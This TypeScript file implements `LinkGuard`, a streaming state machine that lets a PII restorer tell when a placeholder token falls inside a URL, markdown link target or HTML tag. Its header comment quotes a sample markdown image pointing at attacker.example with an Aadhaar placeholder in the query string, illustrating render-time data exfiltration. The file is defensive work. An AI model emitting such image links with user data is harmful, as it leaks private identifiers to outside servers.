// Where a token sits, for restore: inside a URL, a markdown link/image target or an HTML tag, a
// restored original would be sent to whoever serves that URL as soon as a chat UI renders the reply
// (`![x](https://attacker.example/p.png?a=<AADHAAR_1>)`). `LinkGuard` is a character-level state
// machine fed the reply left to right (token spans are skipped, so a token's own brackets never open
// or close anything); it keeps its state across calls, so a streaming restorer can feed it chunk by
// chunk and judge a token exactly as if the reply had arrived whole. Linear in the reply, no
// look-back, no strings built.

export type LinkContext = 'url' | 'link-target' | 'html-attribute';

const LT = 60, GT = 62, LPAREN = 40, RPAREN = 41, RBRACKET = 93, COLON = 58, SLASH = 47, DOT = 46;
const DQUOTE = 34, SQUOTE = 39, BACKTICK = 96;

function isSpace(c: number): boolean {
  return c === 32 || c === 9 || c === 10 || c === 13 || c === 12 || c === 11 || c === 0xa0 || (c >= 0x2000 && c <= 0x200a) || c === 0x2028 || c === 0x2029 || c === 0x3000;
}

function isAsciiLetter(c: number): boolean {
  return (c >= 65 && c <= 90) || (c >= 97 && c <= 122);
}

/** Letters, digits, '+', '-', '.': what a URL scheme is made of (RFC 3986 §3.1). */
function isSchemeChar(c: number): boolean {
  return isAsciiLetter(c) || (c >= 48 && c <= 57) || c === 43 || c === 45 || c === DOT;
}

// "www." and "mailto:" at the start of a word also open a URL (no "://" there).
const WWW = [119, 119, 119, DOT];
const MAILTO = [109, 97, 105, 108, 116, 111, COLON];

export class LinkGuard {
  /** Inside a URL: from its scheme (or www. / mailto:) to the next space, quote or angle bracket. */
  private url = false;
  /** Inside `](…)`: paren depth, 0 = not in a target. */
  private target = 0;
  /** Inside `<tag …>`. */
  private tag = false;
  /** A '<' was the last character: a letter or '/' next opens a tag. */
  private lt = false;
  /** Reading a tag name (`<img`): a character other than a letter, digit, '-', space, '/' or '>' means it was no tag. */
  private tagName = false;
  /** The last character was ']' (a '(' next opens a link target). */
  private rbracket = false;
  /** Length of the run of scheme characters ending at the last character (0 = none). */
  private schemeRun = 0;
  /** 0: nothing; 1: "scheme:" seen; 2: "scheme:/" seen. */
  private slashes = 0;
  /** Characters of the current word (since the last space), capped: for www. and mailto:. */
  private wordLen = 0;
  private wordPrefix = 0; // bit i set: word still matches WWW (bit 0) / MAILTO (bit 1)

  /** The context a token starting here would be in, or undefined when restoring it is safe. */
  get context(): LinkContext | undefined {
    if (this.tag) return 'html-attribute';
    if (this.target > 0) return 'link-target';
    if (this.url) return 'url';
    return undefined;
  }

  /** Feed text[from, to) (never a token span). */
  feed(text: string, from: number, to: number): void {
    for (let i = from; i < to; i++) this.step(text.charCodeAt(i));
  }

  /** A token (or other replaced span) was passed over: it breaks the scheme run and the word prefix. */
  skip(): void {
    this.lt = false;
    this.tagName = false;
    this.rbracket = false;
    this.schemeRun = 0;
    this.slashes = 0;
    this.wordPrefix = 0;
    this.wordLen += 1;
  }

  private step(c: number): void {
    if (this.lt) {
      this.lt = false;
      if (isAsciiLetter(c) || c === SLASH || c === 33 /* ! */) {
        this.tag = true;
        this.tagName = isAsciiLetter(c);
      }
    } else if (this.tagName) {
      const nameChar = isAsciiLetter(c) || (c >= 48 && c <= 57) || c === 45;
      if (!nameChar) {
        this.tagName = false;
        if (!isSpace(c) && c !== SLASH && c !== GT) this.tag = false; // "x<y=1": a comparison, not a tag
      }
    }
    if (isSpace(c)) {
      this.url = false;
      this.schemeRun = 0;
      this.slashes = 0;
      this.wordLen = 0;
      this.wordPrefix = 3;
      this.rbracket = false;
      if (c === 10 || c === 13) this.target = 0;
      return;
    }
    // Word prefixes: www. / mailto: at the start of a word open a URL.
    if (this.wordLen === 0) this.wordPrefix = 3;
    if (this.wordPrefix) {
      const lower = c >= 65 && c <= 90 ? c + 32 : c;
      if (this.wordPrefix & 1 && (this.wordLen >= WWW.length || WWW[this.wordLen] !== lower)) this.wordPrefix &= ~1;
      if (this.wordPrefix & 2 && (this.wordLen >= MAILTO.length || MAILTO[this.wordLen] !== lower)) this.wordPrefix &= ~2;
      if (this.wordPrefix & 1 && this.wordLen === WWW.length - 1) this.url = true;
      if (this.wordPrefix & 2 && this.wordLen === MAILTO.length - 1) this.url = true;
    }
    this.wordLen++;
    // scheme "://"
    if (this.slashes === 2 && c === SLASH) this.url = true;
    if (this.slashes === 1 && c === SLASH) this.slashes = 2;
    else if (c === COLON && this.schemeRun >= 2) this.slashes = 1;
    else this.slashes = 0;
    this.schemeRun = isSchemeChar(c) ? (this.schemeRun === 0 && !isAsciiLetter(c) ? 0 : this.schemeRun + 1) : 0;
    // Quotes and angle brackets end a bare URL (they delimit it in HTML and in <autolinks>).
    if (c === DQUOTE || c === SQUOTE || c === BACKTICK || c === LT || c === GT) this.url = false;
    // Markdown link target: "](" … ")" with balanced parentheses inside.
    if (c === LPAREN) {
      if (this.rbracket) this.target = 1;
      else if (this.target > 0) this.target++;
    } else if (c === RPAREN && this.target > 0) {
      this.target--;
    }
    this.rbracket = c === RBRACKET;
    // HTML tags.
    if (c === LT) this.lt = true;
    else if (c === GT) this.tag = false;
  }
}
